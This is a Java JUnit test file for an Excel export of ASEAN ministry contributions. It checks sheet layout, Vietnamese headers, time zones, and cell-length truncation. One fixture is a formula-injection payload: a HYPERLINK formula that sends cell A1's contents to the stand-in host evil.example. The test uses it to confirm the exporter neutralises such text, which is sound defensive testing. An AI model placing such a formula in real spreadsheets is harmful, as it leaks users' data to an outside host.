package asean.review.report.export;

import static asean.review.report.export.ExportFixtures.HANOI;
import static asean.review.report.export.ExportFixtures.contribution;
import static asean.review.report.export.ExportFixtures.version;
import static asean.review.report.export.ExportFixtures.workbook;
import static org.assertj.core.api.Assertions.assertThat;

import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.stream.IntStream;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import asean.review.contract.Contribution;
import asean.review.contract.api.RegisteredContribution;
import asean.review.contract.api.ReviewState;

/** The workbook read back with POI, as Excel would read it. */
class ContributionsWorkbookTest {

    private static final String VIETNAMESE = "Bộ Y tế chủ trì Hội nghị Bộ trưởng Y tế ASEAN lần thứ 16 tại Đà Nẵng";
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Xem chi tiết\")";

    private static final List<RegisteredContribution> VERSIONS = List.of(
            version(contribution("MOH", "AHMM", VIETNAMESE), 1, ReviewState.RETURNED),
            version(contribution("MOH", "AHMM", "Amended"), 2, ReviewState.ACCEPTED),
            version(contribution("MOIT", "AEM", FORMULA), 1, ReviewState.PENDING_REVIEW));

    private static XSSFWorkbook english() {
        return workbook(ContributionsWorkbook.write(VERSIONS, Locale.ENGLISH, HANOI));
    }

    /** The row as shown, up to its last cell; a cell never written shows as empty. */
    private static List<String> texts(Row row) {
        DataFormatter shown = new DataFormatter();
        List<String> texts = new ArrayList<>();
        for (int c = 0; c < row.getLastCellNum(); c++) {
            texts.add(shown.formatCellValue(row.getCell(c)));
        }
        return texts;
    }

    private static Cell cell(Sheet sheet, int row, String header) {
        List<String> headers = texts(sheet.getRow(0));
        assertThat(headers).as(sheet.getSheetName()).contains(header);
        return sheet.getRow(row).getCell(headers.indexOf(header));
    }

    @Test
    void aVersionTheOfficeEnteredOnTheMinistrysBehalfSaysSo() {
        List<RegisteredContribution> versions = List.of(ExportFixtures.enteredByTheOffice(
                contribution("MOC", "AMMH", "From the ministry's signed letter")), VERSIONS.get(2));
        Sheet sheet = workbook(ContributionsWorkbook.write(versions, Locale.forLanguageTag("vi"), HANOI))
                .getSheetAt(0);
        assertThat(cell(sheet, 1, "Cơ quan điều phối nhập thay").getStringCellValue()).isEqualTo("có");
        assertThat(cell(sheet, 1, "Người nộp").getStringCellValue()).isEqualTo("coordinator@office");
        int onBehalf = texts(sheet.getRow(0)).indexOf("Cơ quan điều phối nhập thay");
        assertThat(texts(sheet.getRow(2)).get(onBehalf)).as("the ministry's own").isEmpty();
    }

    @Test
    void aSheetOfVersionsThenOneRowPerListItemKeyedByItsVersionAndNumber() {
        XSSFWorkbook workbook = english();
        assertThat(IntStream.range(0, workbook.getNumberOfSheets()).mapToObj(workbook::getSheetName))
                .containsExactly("Contributions", "Roles", "Events hosted", "Initiatives", "Planned events");

        Sheet versions = workbook.getSheet("Contributions");
        assertThat(versions.getLastRowNum()).isEqualTo(3);
        assertThat(texts(versions.getRow(0))).containsExactly("Year", "Ministry", "Pillar", "Area", "Area name",
                "Version", "Submitted at (Asia/Ho_Chi_Minh)", "Registered at (Asia/Ho_Chi_Minh)", "Submitted by",
                "Review state", "Review message", "Reviewed by", "Reviewed at (Asia/Ho_Chi_Minh)", "Language",
                "Summary", "Outcomes", "Difficulties", "Recommendations", "Next-year priorities",
                "Entered by the office on the ministry's behalf");
        assertThat(texts(versions.getRow(1)).subList(0, 6)).containsExactly("2024", "MOH", "ASCC", "AHMM", "", "1");
        assertThat(cell(versions, 1, "Review state").getStringCellValue()).isEqualTo("RETURNED");
        assertThat(cell(versions, 1, "Review message").getStringCellValue()).isEqualTo("Name the term");
        assertThat(cell(versions, 2, "Version").getNumericCellValue()).isEqualTo(2);

        Sheet roles = workbook.getSheet("Roles");
        assertThat(texts(roles.getRow(0))).containsExactly("Year", "Ministry", "Area", "Version", "No.",
                "Mechanism", "Role", "Partner", "Term");
        assertThat(roles.getLastRowNum()).as("two roles in each of three versions").isEqualTo(6);
        assertThat(texts(roles.getRow(4))).containsExactly("2024", "MOH", "AHMM", "2", "2",
                "ASEAN Senior Officials on Health", "LEAD", "Lao PDR");
        assertThat(texts(workbook.getSheet("Events hosted").getRow(3)))
                .containsExactly("2024", "MOIT", "AEM", "1", "1", "ASEAN health officials meeting", "2024-09",
                        "Đà Nẵng", "SENIOR_OFFICIALS");
        assertThat(texts(workbook.getSheet("Initiatives").getRow(1))).containsExactly("2024", "MOH", "AHMM", "1",
                "1", "Pandemic preparedness", "ADOPTED", "A regional stockpile");
        assertThat(texts(workbook.getSheet("Planned events").getRow(2))).containsExactly("2024", "MOH", "AHMM",
                "2", "1", "AHMM", "2025-05", "Hà Nội", "MINISTERIAL");
    }

    @Test
    void eachHeaderRowIsBoldFrozenAndFiltered() {
        XSSFWorkbook workbook = english();
        for (Sheet sheet : workbook) {
            Cell first = sheet.getRow(0).getCell(0);
            assertThat(workbook.getFontAt(first.getCellStyle().getFontIndex()).getBold()).as(sheet.getSheetName())
                    .isTrue();
            assertThat(sheet.getPaneInformation().isFreezePane()).as(sheet.getSheetName()).isTrue();
            assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
            String filter = ((XSSFSheet) sheet).getCTWorksheet().getAutoFilter().getRef();
            assertThat(CellRangeAddress.valueOf(filter).getLastColumn()).as(sheet.getSheetName())
                    .isEqualTo(sheet.getRow(0).getLastCellNum() - 1);
            assertThat(sheet.getColumnWidth(0)).as("a width set, not the default").isNotEqualTo(8 * 256);
        }
    }

    @Test
    void vietnameseTextStaysIntactAndAListIsOneItemALineInAWrappedCell() {
        Sheet versions = english().getSheet("Contributions");
        assertThat(cell(versions, 1, "Summary").getStringCellValue()).isEqualTo(VIETNAMESE);
        Cell outcomes = cell(versions, 1, "Outcomes");
        assertThat(outcomes.getStringCellValue()).isEqualTo("Regional coordination supported\nBộ Y tế chủ trì");
        assertThat(outcomes.getCellStyle().getWrapText()).isTrue();
    }

    @Test
    void timesAreExcelDateTimesInTheZoneTheHeaderNames() {
        Cell submitted = cell(english().getSheet("Contributions"), 1, "Submitted at (Asia/Ho_Chi_Minh)");
        assertThat(submitted.getCellType()).isEqualTo(CellType.NUMERIC);
        assertThat(DateUtil.isCellDateFormatted(submitted)).isTrue();
        assertThat(submitted.getLocalDateTimeCellValue()).as("2024-12-31T20:30Z in Hà Nội")
                .isEqualTo(LocalDateTime.of(2025, 1, 1, 3, 30));
        assertThat(new DataFormatter().formatCellValue(submitted)).isEqualTo("2025-01-01 03:30:00");
        Cell pending = cell(english().getSheet("Contributions"), 3, "Reviewed at (Asia/Ho_Chi_Minh)");
        assertThat(pending == null || pending.getCellType() == CellType.BLANK).as("not reviewed yet").isTrue();
    }

    @Test
    void textThatLooksLikeAFormulaIsAStringCellMarkedAsTypedBehindAQuote() {
        Cell summary = cell(english().getSheet("Contributions"), 3, "Summary");
        assertThat(summary.getCellType()).isEqualTo(CellType.STRING);
        assertThat(summary.getStringCellValue()).isEqualTo(FORMULA);
        assertThat(summary.getCellStyle().getQuotePrefixed()).isTrue();
        assertThat(cell(english().getSheet("Contributions"), 1, "Summary").getCellStyle().getQuotePrefixed())
                .as("plain text is not marked").isFalse();
    }

    @Test
    void vietnameseSheetNamesAndHeadersForVi() {
        XSSFWorkbook workbook = workbook(ContributionsWorkbook.write(VERSIONS, Locale.forLanguageTag("vi"), HANOI));
        assertThat(IntStream.range(0, workbook.getNumberOfSheets()).mapToObj(workbook::getSheetName))
                .containsExactly("Báo cáo", "Vai trò", "Sự kiện đã đăng cai", "Sáng kiến", "Sự kiện dự kiến");
        assertThat(texts(workbook.getSheet("Báo cáo").getRow(0))).startsWith("Năm", "Bộ, ngành", "Trụ cột",
                "Lĩnh vực", "Tên lĩnh vực", "Phiên bản", "Nộp lúc (Asia/Ho_Chi_Minh)");
        assertThat(texts(workbook.getSheet("Vai trò").getRow(0))).contains("STT", "Cơ chế", "Nhiệm kỳ");
    }

    @Test
    void textLongerThanACellHoldsIsCutThereWithANote() {
        Contribution c = contribution("MOH", "AHMM", "Long");
        List<String> outcomes = Collections.nCopies(10, "x".repeat(3_999) + "ệ");
        Contribution many = new Contribution(c.year(), c.ministry(), c.pillar(), c.area(), null, c.summary(),
                outcomes, List.of(), List.of(), List.of(), List.of(), List.of(), null, "en");
        Sheet versions = workbook(ContributionsWorkbook.write(List.of(version(many, 1, ReviewState.ACCEPTED)),
                Locale.ENGLISH, HANOI)).getSheet("Contributions");
        String cut = cell(versions, 1, "Outcomes").getStringCellValue();
        assertThat(cut).hasSize(32_767).startsWith(String.join("\n", outcomes).substring(0, 30_000))
                .endsWith(" [cut at Excel's limit of 32,767 characters; the CSV export holds the whole text]");
    }
}
